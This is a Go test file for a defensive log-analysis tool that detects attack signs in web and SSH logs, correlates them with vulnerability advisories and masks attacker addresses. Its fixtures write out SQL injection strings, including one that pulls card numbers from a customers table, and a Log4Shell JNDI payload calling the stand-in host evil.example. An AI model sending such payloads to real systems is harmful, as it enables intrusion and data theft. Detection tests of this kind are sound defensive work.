package attack

import (
	"encoding/json"
	"fmt"
	"strings"
	"testing"
	"time"
)

// TestAnalyzeAndCorrelate: a month of an order site's log with a
// Log4Shell probe, SQL injection and a scanner; the open Log4Shell and a
// CWE-89 finding are correlated, the XSS finding is not; addresses are
// masked; a successful-looking SQLi is marked.
func TestAnalyzeAndCorrelate(t *testing.T) {
	var b strings.Builder
	line := func(ip, ts, req string, status, size int, ua string) {
		fmt.Fprintf(&b, "%s - - [%s +0900] \"%s HTTP/1.1\" %d %d \"-\" \"%s\"\n", ip, ts, req, status, size, ua)
	}
	for i := 0; i < 20; i++ {
		line("198.51.100.20", fmt.Sprintf("0%d/Nov/2026:10:00:%02d", 1+i%9, i), "GET /item.php?id="+fmt.Sprint(i), 200, 3000, chromeUA)
	}
	line("203.0.113.66", "10/Nov/2026:03:12:00", "GET /item.php?id=1%27%20UNION%20SELECT%20card_no,name%20FROM%20customers--", 200, 48000, chromeUA)
	line("203.0.113.67", "10/Nov/2026:03:12:05", "GET /item.php?id=1%27%20OR%20%271%27%3D%271", 500, 300, chromeUA)
	line("192.0.2.44", "12/Nov/2026:22:00:00", "GET /", 200, 5120, "${jndi:ldap://evil.example:1389/a}")
	line("192.0.2.45", "12/Nov/2026:22:00:01", "GET /", 200, 5120, "sqlmap/1.7.2#stable (https://sqlmap.org)")
	f := read(t, "access.log", b.String())
	d := detector(t)
	s := Analyze("web-order", []*File{f}, d, DefaultOptions())
	got := map[Category]Sign{}
	for _, sg := range s.Signs {
		got[sg.Category] = sg
	}
	if sq := got[SQLi]; sq.Requests != 2 || sq.Sources != 1 || sq.MaybeSucceeded != 1 || len(sq.Samples) != 2 {
		t.Errorf("sqli sign: %+v (want 2 requests from one /24, one maybe succeeded)", sq)
	}
	if j := got[Java]; j.Requests != 1 || !containsInt(j.Rules, 944150) {
		t.Errorf("java sign: %+v", j)
	}
	if got[Scanner].Requests != 1 {
		t.Errorf("scanner: %+v", got[Scanner])
	}
	if s.LinesRead != 24 || s.LinesRejected != 0 {
		t.Errorf("lines %d/%d", s.LinesRead, s.LinesRejected)
	}
	Correlate(&s, []Finding{
		{Key: "web-order/log4j/CVE-2021-44228", Advisory: "CVE-2021-44228", CWE: []string{"CWE-502", "CWE-917"}},
		{Key: "web-order/shop/JVNDB-2026-1", Advisory: "JVNDB-2026-1", CWE: []string{"CWE-89"}},
		{Key: "web-order/cms/CVE-2026-2", Advisory: "CVE-2026-2", CWE: []string{"CWE-79"}},
	})
	if len(s.Correlated) != 2 || s.Correlated[0].Advisory != "JVNDB-2026-1" || s.Correlated[1].By != "rule:944150" {
		t.Errorf("correlated: %+v", s.Correlated)
	}
	out, err := Encode(asOf, []SystemSigns{s})
	if err != nil {
		t.Fatal(err)
	}
	text := string(out)
	for _, leak := range []string{"203.0.113.66", "192.0.2.44", "<"} {
		if strings.Contains(text, leak) {
			t.Errorf("attack-signs.json holds %q", leak)
		}
	}
	var back Report
	if err := json.Unmarshal(out, &back); err != nil || back.Schema != Schema || back.Systems[0].Signs[0].Category == "" {
		t.Errorf("schema: %v %+v", err, back)
	}
}

func containsInt(xs []int, x int) bool {
	for _, v := range xs {
		if v == x {
			return true
		}
	}
	return false
}

// TestAuthSigns: a burst of failed logins from one source and for one
// user, a root login and a login at night are signs; scattered failures
// are not.
func TestAuthSigns(t *testing.T) {
	var b strings.Builder
	for i := 0; i < 12; i++ {
		fmt.Fprintf(&b, "Nov  3 02:14:%02d web1 sshd[1]: Failed password for invalid user u%d from 203.0.113.50 port 5%04d ssh2\n", i*3, i, i)
	}
	for i := 0; i < 5; i++ {
		fmt.Fprintf(&b, "Nov %2d 10:00:00 web1 sshd[1]: Failed password for deploy from 10.0.0.%d port 1 ssh2\n", 4+i, i)
	}
	b.WriteString("Nov 10 10:00:00 web1 sshd[1]: Accepted password for root from 10.0.0.9 port 1 ssh2\n")
	b.WriteString("Nov 11 02:30:00 web1 sshd[1]: Accepted publickey for deploy from 10.0.0.8 port 1 ssh2\n")
	f := read(t, "auth.log", b.String())
	opt := DefaultOptions()
	opt.Location = time.UTC
	s := Analyze("db-1", []*File{f}, detector(t), opt)
	kinds := map[string]AuthSign{}
	for _, a := range s.Auth {
		kinds[a.Kind+"/"+a.Subject] = a
	}
	if a := kinds["failed_burst_source/203.0.113.0/24"]; a.Count != 12 {
		t.Errorf("source burst: %+v (all %+v)", a, s.Auth)
	}
	if _, ok := kinds["failed_burst_user/deploy"]; ok {
		t.Error("five failures over five days are no burst")
	}
	if kinds["root_login/root"].Count != 1 || kinds["off_hours_login/deploy"].Count != 1 {
		t.Errorf("logins: %+v", s.Auth)
	}
}
